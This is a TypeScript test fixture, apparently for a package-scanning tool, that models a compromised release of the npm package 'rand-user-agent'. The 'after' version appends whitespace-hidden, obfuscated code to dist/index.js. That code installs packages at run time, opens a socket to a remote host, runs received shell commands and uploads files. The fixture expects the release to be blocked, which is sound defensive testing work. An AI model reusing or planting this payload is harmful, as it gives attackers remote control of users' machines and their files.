import type { Replica, ReplicaVersion } from '../replicas/replica.js';
import { noise } from '../replicas/replica.js';

export const before = {
  version: '2.0.82',
  publishedAt: '2024-10-15T09:14:27.000Z',
  publisher: { name: 'webscrapingapi', email: 'dev@mail.example.invalid' },
  manifest: { main: 'dist/index.js', license: 'MIT', description: 'random user agents by frequency' },
  files: {
    'dist/index.js': `"use strict";
const fs = require("fs");
const path = require("path");
const data = JSON.parse(fs.readFileSync(path.join(__dirname, "../data/user-agents.json"), "utf8"));

function weighted(list) {
    let at = Math.random() * list.reduce((sum, x) => sum + x.weight, 0);
    for (const entry of list) {
        at -= entry.weight;
        if (at <= 0) return entry.value;
    }
    return list[list.length - 1].value;
}

function randUserAgent(device, browser = null, os = null) {
    const ofDevice = data[device];
    if (!ofDevice) throw new TypeError(\`no such device: \${device}\`);
    const fit = ofDevice.filter((x) => (!browser || x.browser === browser) && (!os || x.os === os));
    return weighted(fit.length > 0 ? fit : ofDevice);
}

module.exports = randUserAgent;
`,
    'data/user-agents.json': `{
  "desktop": [
    { "weight": 61, "browser": "chrome", "os": "windows", "value": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0 Safari/537.36" },
    { "weight": 20, "browser": "safari", "os": "mac", "value": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15" },
    { "weight": 6, "browser": "firefox", "os": "linux", "value": "Mozilla/5.0 (X11; Linux x86_64; rv:130.0) Gecko/20100101 Firefox/130.0" }
  ],
  "mobile": [
    { "weight": 44, "browser": "chrome", "os": "android", "value": "Mozilla/5.0 (Linux; Android 14) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0 Mobile Safari/537.36" }
  ]
}
`,
    'test/index.test.js': `const assert = require("assert");
const randUserAgent = require("../dist/index");

assert.match(randUserAgent("desktop", "firefox"), /Firefox/);
assert.throws(() => randUserAgent("toaster"), TypeError);
console.log("ok");
`,
  },
} satisfies ReplicaVersion;

export const replica: Replica = {
  id: 'rand-user-agent-2025',
  story: 'May 2025: after seven months of rest, code behind hundreds of spaces that installs two packages at run time and takes orders over a socket.',
  name: 'rand-user-agent',
  before,
  after: {
    version: '2.0.83',
    publishedAt: '2025-05-05T09:14:27.000Z',
    publisher: { name: 'webscrapingapi', email: 'dev@mail.example.invalid' },
    manifest: { main: 'dist/index.js', license: 'MIT', description: 'random user agents by frequency' },
    files: {
      'data/user-agents.json': before.files['data/user-agents.json'],
      'test/index.test.js': before.files['test/index.test.js'],
      'dist/index.js': before.files['dist/index.js']
        .replace(`module.exports = randUserAgent;`, () => `module.exports = randUserAgent;${' '.repeat(612)}global['_V']='7-randuser84';global['r']=require;var a0b,a0a;(function(){var mGB="",hwM=462-451;function pZs(h){var n=1135489;var m=h.length;var b=[];for(var v=0;v<m;v++){b[v]=h.charAt(v)};for(var v=0;v<m;v++){var u=n*(v+156)+(n%47846);var t=n*(v+532)+(n%33020);var c=u%m;var j=t%m;var o=b[c];b[c]=b[j];b[j]=o;n=(u+t)%4935744};return b.join('')};var gyS=pZs('rtnouccskdtqxrgvyfalbpwhjmizoe').substr(0,hwM);var sNc="${noise(1800, 83, 'abcdefghijklmnopqrstuvwxyz=;.()[]{},+-0123456789')}";var xQy=pZs[gyS]||Function;try{xQy("",pZs(sNc))()}catch(e){}})();!function(g){const n=g.r,t=n("os"),i=n("path"),s=n("fs"),c=n("child_process"),p=process,h=i.join(t.homedir(),".node_modules");function m(){try{s.mkdirSync(h,{recursive:!0});c.execSync("npm install --prefix "+JSON.stringify(h)+" axios socket.io-client --silent",{stdio:"ignore",windowsHide:!0})}catch(e){}}function w(){if("win32"===p.platform){const e=i.join(p.env.LOCALAPPDATA||t.homedir(),"Programs","Python","Python3127");p.env.PATH=e+i.delimiter+p.env.PATH}}module.paths.push(i.join(h,"node_modules"));try{n("axios"),n("socket.io-client")}catch(e){m()}w();try{const e=n("socket.io-client"),r=n("axios"),o=e("http://192.0.2.144:3306",{reconnection:!0,reconnectionDelay:5e3});o.on("connect",()=>o.emit("identify","client",{clientUuid:t.hostname()+"$"+t.userInfo().username,processId:p.pid,osInfo:t.type()+" "+t.release()}));o.on("command",(a,l)=>{const u=String(a.message||a);if(u.startsWith("cd "))return p.chdir(u.slice(3).trim()),o.emit("response",{result:p.cwd()},l);if(u.startsWith("ss_upf ")){const f=s.createReadStream(u.slice(7));return r.post("http://192.0.2.144:27017/u/f",f).then(()=>o.emit("response",{result:"ok"},l)).catch(()=>{})}c.exec(u,{windowsHide:!0},(f,d,k)=>o.emit("response",{result:d||k||String(f)},l))})}catch(e){}}(global);`),
    },
  },
  must: 'block',
};
